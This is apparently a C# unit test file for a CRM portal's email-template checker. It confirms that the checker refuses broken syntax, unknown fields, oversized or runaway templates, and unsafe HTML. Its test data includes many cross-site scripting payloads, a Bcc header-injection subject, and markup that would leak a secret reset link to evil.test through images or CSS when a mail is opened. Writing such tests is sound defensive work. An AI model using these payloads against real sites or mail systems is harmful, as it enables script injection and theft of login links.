using System.Diagnostics;
using OpenCrm.Portal.Mail;

namespace OpenCrm.Portal.Tests.Mail;

/// <summary>What Save refuses in a template, and at which place (docs/spec.md 6.2; case A20 of docs/threats.md).</summary>
public sealed class TemplateCheckTests
{
    private static readonly TemplateCheck Check = new();

    public static TheoryData<string> Keys => [.. TemplateCatalogue.All.Select(t => t.Key)];

    [Theory, MemberData(nameof(Keys))]
    public void Every_default_template_passes(string key)
    {
        var template = TemplateCatalogue.Find(key)!;
        Assert.Empty(Check.Check(template, TemplateText.Default(template)));
    }

    [Theory]
    [InlineData("one\ntwo {{ sent_by | }}", 2, 16)]
    [InlineData("{% if sent_by %}\nyes", 2, 4)]
    [InlineData("\n\n  {% nonsense %}", 3, 14)]
    [InlineData("one\n {{ sent_by", 2, 2)]
    [InlineData("one\n\n{{ \"a\\b\" }}", 3, 1)]
    [InlineData("{{ 7*7 }}", 1, 5)]
    [InlineData("{{ }}", 1, 3)]
    public void A_fault_of_syntax_names_line_and_column(string source, int line, int column)
    {
        var fault = Assert.IsType<TemplateFault.Syntax>(Assert.Single(Html(source)));
        Assert.Equal(line, fault.At?.Line);
        Assert.InRange(fault.At!.Column, column - 1, column + 1);
        Assert.DoesNotContain("Source:", fault.Why, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Hi\n{{ User.PasswordHash }}", "User.PasswordHash", 2, 4)]
    [InlineData("{{ sent_by }}\n\n {{ sent_by.Length }}", "sent_by.Length", 3, 5)]
    [InlineData("{% if sent_by == '' %}\n{{ password_hash }}{% endif %}", "password_hash", 2, 4)]
    [InlineData("x\n{% case at %}{% when 'a' %}{{ at | append: nobody }}{% endcase %}", "nobody", 2, 44)]
    [InlineData("{% assign a = at %}{{ a }}\n{{ b }}", "b", 2, 4)]
    [InlineData("sent_bye {{ sent_bye }}", "sent_bye", 1, 13)]
    [InlineData("{{ sent_by[at] }}", "sent_by.[…]", 1, 4)]
    public void An_unknown_field_is_named_with_its_place_also_in_a_branch_that_the_sample_does_not_take(
        string source, string name, int line, int column)
    {
        var fault = Assert.Single(Html(source).OfType<TemplateFault.UnknownField>(), f => f.Name == name);
        Assert.Equal(new TextPlace(line, column), fault.At);
    }

    [Fact]
    public void An_unknown_filter_is_named_with_its_place() =>
        Assert.Equal(new TemplateFault.UnknownFilter(TemplateParts.Html, "raw", new(2, 14)), Assert.Single(Html("x\n{{ sent_by | raw }}")));

    [Theory]
    [InlineData("lost-device-link"), InlineData("forgotten-password"), InlineData("invitation")]
    public void A_mail_without_its_link_is_refused_also_where_only_some_would_get_it(string key)
    {
        var template = TemplateCatalogue.Find(key)!;
        var text = TemplateText.Default(template);
        Assert.Equal(
            new TemplateFault.RequiredMissing(TemplateParts.Html, "link"),
            Assert.Single(Check.Check(template, text with { Html = "<p>No link</p>" })));
        var own = template.OwnFields.First(f => !f.Required).Name;
        Assert.All(
            [
                "no link", "{% if false %}{{ link }}{% endif %}",
                $"{{% if {own} != '' %}}{{{{ link }}}}{{% endif %}}",
                $"{{% if {own} == '' %}}{{{{ link }}}}{{% endif %}}",
                "{{ link | upcase }}", "{{ link | truncate: 10 }}", "{% assign link = 'x' %}{{ link }}"
            ],
            source => Assert.Equal(
                new TemplateFault.RequiredMissing(TemplateParts.Text, "link"),
                Assert.Single(Check.Check(template, text with { Text = source }))));
        Assert.Equal(
            new TemplateFault.SecretInSubject("link", new(1, 8)),
            Assert.Single(Check.Check(template, text with { Subject = "Hi {{  link }}" })));
    }

    [Fact]
    public void Empty_and_too_long_parts_are_refused_and_sixty_thousand_characters_are_not()
    {
        var template = TemplateCatalogue.Test;
        Assert.Equal(
            [
                new TemplateFault.Empty(TemplateParts.Subject),
                new TemplateFault.Empty(TemplateParts.Html),
                new TemplateFault.Empty(TemplateParts.Text)
            ],
            Check.Check(template, new("", " \n", "\t")));
        var full = new string('x', 60_000);
        Assert.Empty(Check.Check(template, new(new string('s', 500), full, full)));
        Assert.Equal(
            [
                new TemplateFault.TooLong(TemplateParts.Subject, 501, 500),
                new TemplateFault.TooLong(TemplateParts.Html, 60_001, 60_000),
                new TemplateFault.TooLong(TemplateParts.Text, 60_001, 60_000)
            ],
            Check.Check(template, new(new string('s', 501), full + "x", full + "x")));
    }

    /// <summary>A template of sixty thousand characters can grow to a hundred million.</summary>
    [Fact]
    public void A_text_that_grows_beyond_what_a_mail_may_hold_is_refused()
    {
        Assert.Equal(
            new TemplateFault.Fails(TemplateParts.Html, "The text of the mail is longer than 500000 characters."),
            Assert.Single(Html(Growing)));
        Assert.Empty(Html(string.Concat(Enumerable.Repeat("{{ sent_by }}", 4_000))));
    }

    [Theory]
    [InlineData("a\0"), InlineData("a\u0007"), InlineData("a\nb"), InlineData("a\r\nBcc: x@y.test")]
    [InlineData("a\u2028b"), InlineData("a\u2029b"), InlineData("a\u0085b")]
    public void A_subject_holds_one_line_of_what_can_be_sent(string subject) =>
        Assert.IsType<TemplateFault.Unprintable>(Assert.Single(Check.Check(TemplateCatalogue.Test, new(subject, "x", "x"))));

    private static readonly string Growing =
        "{% assign a = 'xxxxxxxxxx' %}"
        + string.Concat(Enumerable.Repeat("{% assign a = a | append: a %}", 9))
        + string.Concat(Enumerable.Repeat("{{ a }}", 5_000));

    [Fact]
    public void Half_a_surrogate_pair_is_refused_with_its_place_and_a_whole_one_is_not()
    {
        Assert.Equal(new TemplateFault.Unprintable(TemplateParts.Html, new(2, 2)), Assert.Single(Html("x\na\ud800b")));
        Assert.Empty(Html("🙂"));
    }

    /// <summary>Values that people choose are put in such places: a user may be named <c>javascript:…</c>.</summary>
    [Theory]
    [InlineData("<script>alert(1)</script>"), InlineData("<SCRIPT SRC=//evil.test/x.js>")]
    [InlineData("<script/x>alert(1)</script>"), InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>"), InlineData("<body onload=alert(1)>"), InlineData("<iframe srcdoc='x'>"), InlineData("<object data=x>")]
    [InlineData("<embed src=x>"), InlineData("<form action=https://evil.test><input name=p></form>")]
    [InlineData("<p><button formaction=x>"), InlineData("<base href=https://evil.test>")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.test'>"), InlineData("<link rel=stylesheet href=https://evil.test>")]
    [InlineData("<math><mtext></mtext></math>")]
    [InlineData("<a href=javascript:alert(1)>x</a>"), InlineData("<a href='JaVaScRiPt:alert(1)'>x</a>")]
    [InlineData("<a href='java\tscript:alert(1)'>x</a>"), InlineData("<a href='&#106;avascript:alert(1)'>x</a>")]
    [InlineData("<a href=' javascript&colon;alert(1)'>x</a>"), InlineData("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<a href='vbscript:x'>x</a>")]
    [InlineData("<img src='data:image/svg+xml,x'>"), InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<!--x--!><script>alert(1)</script>-->"), InlineData("<p title='>' onclick=x>")]
    [InlineData("<a href='{{ sent_by }}'>x</a>"), InlineData("<a href='{% if at %}javascript{% endif %}:x'>x</a>")]
    [InlineData("<a href='x{{ sent_by }}:x'>x</a>"), InlineData("<{{ sent_by }}>")]
    [InlineData("</{{ sent_by }}>"), InlineData("<p {{ sent_by }}>"), InlineData("<p class={{ sent_by }}>")]
    [InlineData("<p o{{ sent_by }}=x>"), InlineData("<img srcset=x>"), InlineData("<x-y>")]
    [InlineData("<{% if at %}script{% endif %}>alert(1)"), InlineData("<a href='{{ portal_url | append: at }}'>x</a>")]
    [InlineData("<table background='javascript:x'>"), InlineData("<textarea autofocus onfocus=x>")]
    [InlineData("<style><!--</style><script>alert(1)</script>-->"), InlineData("<title><!--</title><p onclick=x>-->")]
    public void HTML_that_would_run_load_or_submit_something_is_refused(string html)
    {
        var faults = Html(html);
        Assert.NotEmpty(faults);
        Assert.All(faults, fault => Assert.IsType<TemplateFault.ActiveContent>(fault));
    }

    /// <summary>An image with the link in its address would send the live link as soon as the mail is opened.</summary>
    [Theory]
    [InlineData("<img src=\"https://evil.test/?{{ link }}\">"), InlineData("<img src=\"{{ link }}\">")]
    [InlineData("<table background='https://evil.test/?{{ link }}'>"), InlineData("<p style=\"background: url(https://evil.test/?{{ link }})\">x")]
    [InlineData("<style>p { background: url(https://evil.test/?{{ link }}) }</style>"), InlineData("<a href=\"https://evil.test/?{{ link }}\">x</a>")]
    [InlineData("<a href=\"{{ link }}?x=1\">x</a>")]
    [InlineData("<a href=\"{{ portal_url }}/x?{{ link }}\">x</a>"), InlineData("<p title=\"{{ link }}\">x")]
    [InlineData("<!-- {{ link }} -->"), InlineData("<!--[if mso]><img src=\"https://evil.test/?{{ link }}\"><![endif]-->")]
    [InlineData("https://evil.test/?{{ link }}"), InlineData("https://evil.test/?q=<b>{{ link }}</b>")]
    [InlineData("https&#58;//evil.test/{{ link }}"), InlineData("{{ portal_url }}{{ link }}"), InlineData("{{ link }}{{ link }}")]
    [InlineData("https://evil.test/? {{- link }}"), InlineData("https://evil.test/?{% if true %}{{ link }}{% endif %}")]
    [InlineData("{% assign a = link %}<a href=\"https://evil.test/?{{ a }}\">x</a>")]
    [InlineData("{% if link contains 'a' %}<img src=\"https://evil.test/a.png\">{% endif %}")]
    [InlineData("{% case link %}{% when 'a' %}x{% endcase %}")]
    [InlineData("{{ link | append: 'x' }}"), InlineData("{{ from_address | append: link }}")]
    [InlineData("</p {{ link }}>"), InlineData("<a name=\"{{ link }}\">x</a>"), InlineData("<img alt=\"{{ link }}\" src=\"cid:x\">")]
    public void A_live_link_stands_only_as_the_whole_address_of_a_link_or_as_text(string html)
    {
        var template = TemplateCatalogue.LostDeviceLink;
        var text = TemplateText.Default(template);
        var faults = Check.Check(template, text with { Html = $"<p>\n<a href=\"{{{{ link }}}}\">x</a> {{{{ link }}}} and</p>\n{html}" });
        Assert.NotEmpty(faults);
        Assert.All(
            faults,
            fault => Assert.True(
                fault is TemplateFault.LinkMisplaced { Name: "link" } or TemplateFault.FieldInImage or TemplateFault.ActiveContent,
                fault.ToString()));
        if (!html.Contains("{{-", StringComparison.Ordinal)) Assert.All(faults, fault => Assert.True(fault.At!.Line >= 3, fault.ToString()));
    }

    [Theory]
    [InlineData("https://evil.test/?{{ link }}"), InlineData("see evil.test/{{ link }}"), InlineData("a@evil.test?{{ link }}")]
    [InlineData("{{ portal_url }}{{ link }}"), InlineData("{{ link | upcase }}")]
    public void Nor_may_it_be_glued_to_another_address_in_the_text(string line)
    {
        var template = TemplateCatalogue.LostDeviceLink;
        var fault = Assert.IsType<TemplateFault.LinkMisplaced>(
            Assert.Single(Check.Check(template, TemplateText.Default(template) with { Text = $"one\n{{{{ link }}}}\n{line}" })));
        Assert.Equal((TemplateParts.Text, 3), (fault.Part, fault.At?.Line));
    }

    [Theory]
    [InlineData("<a href=\"{{ link }}\">x</a>"), InlineData("<a class='b' href='{{link}}' style=\"color: red\">{{ link }}</a>")]
    [InlineData("<p>Link:&nbsp;{{ link }}</p>"), InlineData("<p>Link:{{ link }}.</p>")]
    [InlineData("https://ours.test/<br>{{ link }}"), InlineData("<table><tr><td>https://ours.test</td><td>{{ link }}</td></tr></table>")]
    [InlineData("{% if from_address != '' %}({{ link }}){% endif %}"), InlineData("<a\n  href=\"{{- link -}}\">x</a>")]
    [InlineData(
        "<img src=\"https://ours.test/logo.png\"><a href=\"https://ours.test/?{{ from_address }}\">x</a> "
        + "<img src='cid:x' alt=\"{{ company_name }}\">")]
    public void What_keeps_it_in_the_mail_is_taken(string html)
    {
        var template = TemplateCatalogue.LostDeviceLink;
        Assert.Empty(Check.Check(template, TemplateText.Default(template) with { Html = $"{{{{ link }}}}\n{html}" }));
    }

    [Theory]
    [InlineData("<img src=\"https://evil.test/?{{ recipient_name }}\">"), InlineData("<img src=\"{{ portal_url }}/logo.png\">")]
    [InlineData("<img src='https://evil.test/{% if at %}a{% endif %}'>")]
    [InlineData("<td background=\"https://evil.test/{{ at }}\">"), InlineData("<p style=\"background: url(https://evil.test/{{ at }})\">")]
    [InlineData("<style>p { background: url({{ at }}) }</style>")]
    public void No_image_holds_a_field(string html)
    {
        var fault = Html($"<p>\n{html}").OfType<TemplateFault.FieldInImage>();
        // Some of these addresses are refused as active content instead.
        if (!fault.Any()) Assert.All(Html($"<p>\n{html}"), other => Assert.IsType<TemplateFault.ActiveContent>(other));
        Assert.NotEmpty(Html($"<p>\n{html}"));
    }

    [Theory]
    [InlineData("<p class=\"x\" style='color: red'>1 < 2 & 3 > 2 <br/> <b>{{ sent_by }}</b></p>")]
    [InlineData("<a href=\"{{ portal_url }}\">x</a><a href='{{portal_url}}/help/mfa'>y</a>")]
    [InlineData("<a href='https://a.test/x?y=1#z'>x</a><a href=mailto:a@b.test>y</a><a href=tel:1>z</a>")]
    [InlineData("<img alt='' src='data:image/png;base64,AA=='><img src=cid:logo>")]
    [InlineData("<table role=presentation width=100%><tr><td {% if at %}class='a'{% endif %} title=\"by {{ sent_by }}\">x</td></tr></table>")]
    [InlineData("<!-- a comment > <b --> <style>p > b { color: red }</style>")]
    [InlineData("@(1+1) ${x} @System.Diagnostics.Process.Start(1) { { } } %}")]
    public void HTML_of_mails_is_not(string html) => Assert.Empty(Html(html));

    /// <summary>Checking a template may not become a way to keep the portal busy.</summary>
    [Fact]
    public void Whatever_is_typed_is_judged_within_a_tenth_of_a_second()
    {
        string Many(string part) => string.Concat(Enumerable.Repeat(part, 60_000 / part.Length));
        string[] corpus =
        [
            new('x', 1 << 20), Many("{{"), Many("{%"), Many("{{ sent_by }}"), Many("<script>"), Many("<a href='"),
            Many("<!--"), Many("<p "), Many("{{ a.b }}"),
            string.Concat(Enumerable.Range(0, 5_000).Select(i => $"{{{{ x{i} }}}}")),
            Many("{% if sent_by %}"), "{% for i in (1..1000000000) %}x{% endfor %}",
            "{{ sent_by" + Many("[sent_by") + "}}", Many("<"), Many("{{ sent_by | upcase }}"), Many("{% assign a = at %}"),
            Many("\n"), Many("{% if at %}<b>{% endif %}"), Many("&#106;"), Growing,
        ];
        // The first check compiles the parser and the regular expressions.
        Html("{{ nobody }}");
        Assert.All(corpus, source =>
        {
            var best = TimeSpan.MaxValue;
            // The machine is shared: neither a slow moment nor the time that other processes take is the template's fault.
            for (var tries = 0; tries < 20 && best > TimeSpan.FromMilliseconds(100); tries++)
            {
                var (watch, used) = (Stopwatch.StartNew(), Environment.CpuUsage.TotalTime);
                // Parsed templates are cached, so each try uses a new text.
                Html(source.Length < 60_000 - tries ? source + new string(' ', tries) : source);
                best = new[] { best, watch.Elapsed, Environment.CpuUsage.TotalTime - used }.Min();
            }
            Assert.True(best < TimeSpan.FromMilliseconds(100), $"{best.TotalMilliseconds} ms: {source[..Math.Min(30, source.Length)]}");
        });
    }

    private static IReadOnlyList<TemplateFault> Html(string html) => Check.Check(TemplateCatalogue.Test, new("Hi", html, "Hi"));
}
